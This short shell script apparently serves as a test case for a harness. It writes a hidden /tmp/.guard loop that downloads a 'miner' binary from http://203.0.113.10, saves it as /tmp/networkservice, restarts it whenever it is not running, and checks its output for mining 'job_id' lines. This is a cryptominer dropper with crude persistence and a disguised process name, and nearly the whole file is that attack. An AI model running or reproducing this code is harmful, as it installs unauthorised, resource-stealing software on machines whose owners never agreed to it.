#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.guard <<'END'
for n in 1 2 3; do
    ps | grep -v grep | grep -q networkservice || {
        test -x /tmp/networkservice || { wget -q -O /tmp/networkservice http://203.0.113.10/programs/miner; chmod +x /tmp/networkservice; }
        /tmp/networkservice >>/tmp/.out 2>&1 &
    }
    sleep 2
done
END
sh /tmp/.guard
test "$(grep -c job_id /tmp/.out)" -gt 1
took_place
